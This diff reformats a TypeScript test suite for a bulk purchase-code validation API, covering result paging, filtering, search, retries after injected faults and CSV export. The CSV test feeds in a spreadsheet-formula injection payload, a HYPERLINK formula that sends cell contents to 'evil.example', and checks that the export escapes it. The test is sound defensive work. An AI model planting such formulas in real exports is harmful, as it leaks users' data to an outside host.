@@ -14,7 +14,11 @@ import { bothServerStores } from "@/tests/support/store-backends";
 
 const VALIDATION_PATH = "/market/api/purchases/validation";
 const unknown = (n: number) => `ffffffff-0000-4000-8000-${String(n).padStart(12, "0")}`;
-const json = (body: unknown): RequestInit => ({ method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify(body) });
+const json = (body: unknown): RequestInit => ({
+  method: "POST",
+  headers: { "Content-Type": "application/json" },
+  body: JSON.stringify(body),
+});
 
 let sandbox: TestSandbox;
 let gateway: GatewayProcess;
@@ -33,7 +37,9 @@ async function finished(client: SignedInClient, id: string) {
 describe.each(bothServerStores())("on $name", (store) => {
   beforeAll(async () => {
     sandbox = await startTestSandbox({ extraKeys: { items: { [CANARY.items]: "main" } } });
-    gateway = await startGateway(sandboxEnv(sandbox, { DATABASE_URL: await store.create(), PURCHASE_BULK_LIMIT_PER_HOUR: "520" }));
+    gateway = await startGateway(
+      sandboxEnv(sandbox, { DATABASE_URL: await store.create(), PURCHASE_BULK_LIMIT_PER_HOUR: "520" }),
+    );
     [support, editor] = await Promise.all([gateway.signIn("support"), gateway.signIn("editor")]);
   }, 60_000);
   afterAll(async () => {
@@ -44,7 +50,11 @@ describe.each(bothServerStores())("on $name", (store) => {
   describe("a 500-code job's results", () => {
     let id: string;
     beforeAll(async () => {
-      const codes = [FIXED_PURCHASE_CODES.active, FIXED_PURCHASE_CODES.expired, ...Array.from({ length: 498 }, (_, n) => unknown(n))];
+      const codes = [
+        FIXED_PURCHASE_CODES.active,
+        FIXED_PURCHASE_CODES.expired,
+        ...Array.from({ length: 498 }, (_, n) => unknown(n)),
+      ];
       const created = await support.request("/api/purchases/bulk", json({ codes }));
       expect(created.status, created.text).toBe(202);
       id = created.json.data.id;
@@ -57,20 +67,33 @@ describe.each(bothServerStores())("on $name", (store) => {
       expect(res.json.meta).toEqual({ page: 1, per_page: 50, total: 500, last_page: 10 });
       expect(res.json.data).toHaveLength(50);
       expect(res.json.job).toMatchObject({ id, status: "done", total: 500, valid: 2, invalid: 498 });
-      expect(res.json.counts).toMatchObject({ all: 500, valid: 2, support_expired: 1, invalid: 498, failed: 0, retryable: 0 });
+      expect(res.json.counts).toMatchObject({
+        all: 500,
+        valid: 2,
+        support_expired: 1,
+        invalid: 498,
+        failed: 0,
+        retryable: 0,
+      });
       const last = await support.request(`/api/purchases/bulk/${id}/results?page=10`);
-      expect(last.json.data.map((row: { index: number }) => row.index)).toEqual(Array.from({ length: 50 }, (_, n) => 450 + n));
+      expect(last.json.data.map((row: { index: number }) => row.index)).toEqual(
+        Array.from({ length: 50 }, (_, n) => 450 + n),
+      );
     });
 
     it("filters support expired apart from invalid: a valid purchase with its own support state", async () => {
       const res = await support.request(`/api/purchases/bulk/${id}/results?status=support_expired`);
-      expect(res.json.data).toEqual([expect.objectContaining({ code: FIXED_PURCHASE_CODES.expired, status: "valid", support: "expired" })]);
+      expect(res.json.data).toEqual([
+        expect.objectContaining({ code: FIXED_PURCHASE_CODES.expired, status: "valid", support: "expired" }),
+      ]);
       const valid = await support.request(`/api/purchases/bulk/${id}/results?status=valid`);
       expect(valid.json.data.map((row: { support: string }) => row.support).sort()).toEqual(["active", "expired"]);
     });
 
     it("searches part of a code in any case, with or without hyphens, and pages the matches", async () => {
-      const res = await support.request(`/api/purchases/bulk/${id}/results?q=${encodeURIComponent("8000-00000000004")}&per_page=10`);
+      const res = await support.request(
+        `/api/purchases/bulk/${id}/results?q=${encodeURIComponent("8000-00000000004")}&per_page=10`,
+      );
       expect(res.json.meta.total).toBe(10); // unknown(40) … unknown(49)
       expect(res.json.data.every((row: { code: string }) => row.code.includes("8000-00000000004"))).toBe(true);
       const upper = await support.request(`/api/purchases/bulk/${id}/results?q=${CODE_PART.toUpperCase()}`);
@@ -93,7 +116,10 @@ describe.each(bothServerStores())("on $name", (store) => {
     it("sends back only the failures a retry can pass, charges them, and the job's counts follow", async () => {
       // Every validation answers 503 until cleared: 3 codes fail after their 3 tries.
       await sandbox.injectFault({ method: "POST", path: VALIDATION_PATH, kind: "status", status: 503 });
-      const created = await support.request("/api/purchases/bulk", json({ codes: [FIXED_PURCHASE_CODES.active, FIXED_PURCHASE_CODES.none, unknown(9999), "\u0430bc"] }));
+      const created = await support.request(
+        "/api/purchases/bulk",
+        json({ codes: [FIXED_PURCHASE_CODES.active, FIXED_PURCHASE_CODES.none, unknown(9999), "\u0430bc"] }),
+      );
       const id = created.json.data.id as string;
       const failedJob = await finished(support, id);
       await sandbox.clearFaults();
@@ -111,21 +137,32 @@ describe.each(bothServerStores())("on $name", (store) => {
       // Nothing left to re-check: invalid codes stay invalid.
       const again = await support.request(`/api/purchases/bulk/${id}/recheck`, { method: "POST" });
       expect(again.status).toBe(409);
-      expect(again.json.error).toMatchObject({ code: "conflict", message: expect.stringContaining("nothing to re-check") });
+      expect(again.json.error).toMatchObject({
+        code: "conflict",
+        message: expect.stringContaining("nothing to re-check"),
+      });
     }, 60_000);
   });
 
   describe("the CSV", () => {
     it("neutralises a code that begins with '=' (and + - @), and names support expired", async () => {
       const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
-      const created = await support.request("/api/purchases/bulk", json({ codes: [formula, "+1-555", "@SUM(A1)", FIXED_PURCHASE_CODES.expired] }));
+      const created = await support.request(
+        "/api/purchases/bulk",
+        json({ codes: [formula, "+1-555", "@SUM(A1)", FIXED_PURCHASE_CODES.expired] }),
+      );
       const id = created.json.data.id as string;
       await finished(support, id);
       const csv = await support.request(`/api/purchases/bulk/${id}.csv`);
       const [header, ...rows] = parseCsv(csv.text.replace(/^\ufeff/, ""));
       const code = header!.indexOf("code");
       const support_ = header!.indexOf("support");
-      expect(rows.map((row) => row[code])).toEqual([`'${formula}`, "'+1-555", "'@SUM(A1)", FIXED_PURCHASE_CODES.expired]);
+      expect(rows.map((row) => row[code])).toEqual([
+        `'${formula}`,
+        "'+1-555",
+        "'@SUM(A1)",
+        FIXED_PURCHASE_CODES.expired,
+      ]);
       expect(rows.map((row) => [row[header!.indexOf("status")], row[support_]])).toEqual([
         ["invalid", ""],
         ["invalid", ""],
